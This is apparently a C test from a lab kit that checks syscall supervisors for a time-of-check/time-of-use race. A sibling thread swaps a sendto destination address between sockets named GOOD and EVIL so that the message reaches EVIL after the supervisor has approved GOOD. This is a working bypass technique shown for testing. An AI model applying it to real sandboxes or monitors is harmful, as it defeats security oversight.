// SPDX-License-Identifier: Apache-2.0
/*
 * Threat:  the kernel copies arguments from the stack at once, a supervisor later: a sibling thread
 *          shows the one EVIL and the other GOOD.
 * Steps:   two addresses lie where the words GOOD and EVIL, taken as numbers, point to. The stack
 *          of the call is an array, in which a thread moves the pointer from one to the other;
 *          it rewrites the address behind GOOD as well.
 * Success: the socket named EVIL got the message.
 */
#include "race.h"
#include "sockets.h"

#include <errno.h>
#include <string.h>
#include <sys/syscall.h>

static const char *const shapes[] = { "single", "continuous", NULL };

static _Alignas(8) unsigned long stack[8];
static char *good; /* the word of the address where GOOD points to */

static void set_up(struct kit *kit)
{
	sockets_open(kit);
	good = sockets_place("GOOD") + (SOCKETS_WORD - (char *)&sockets_address);
	sockets_place("EVIL");
}

static void put(const struct kit_writer *writer, const char *value)
{
	kit_store(writer->word, value);
	memcpy(good, value, 4);
}

#ifdef __mips__
/* sendto with `stack` for its stack: the first four places belong to the registers. */
static int send_from(int fd)
{
	register long number __asm__("$2") = SYS_sendto;
	register long a0 __asm__("$4") = fd;
	register const char *a1 __asm__("$5") = "m";
	register long a2 __asm__("$6") = 1;
	register long a3 __asm__("$7") = 0;

	stack[5] = SOCKETS_ADDRESS_SIZE;
	__asm__ volatile("move $16, $29\n\t"
			 "move $29, %[stack]\n\t"
			 "syscall\n\t"
			 "move $29, $16"
			 : "+r"(number), "+r"(a3)
			 : [stack] "r"(stack), "r"(a0), "r"(a1), "r"(a2)
			 : "$1", "$3", "$8", "$9", "$10", "$11", "$12", "$13", "$14", "$15", "$16",
			   "$24", "$25", "hi", "lo", "memory");
	return a3 ? (int)number : 0;
}
#else
static int send_from(int fd)
{
	(void)fd;
	return ENOSYS; /* the lab leaves such arches out */
}
#endif

static int act(struct kit *kit, unsigned n)
{
	(void)kit;
	(void)n;
	return send_from(socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0));
}

int main(int argc, char **argv)
{
	const struct race race = {
		.word = (char *)&stack[4],
		.put = put,
		.set_up = set_up,
		.before = sockets_forget,
		.act = act,
		.after = sockets_tell,
	};

	return race_run(argc, argv, shapes, &race);
}
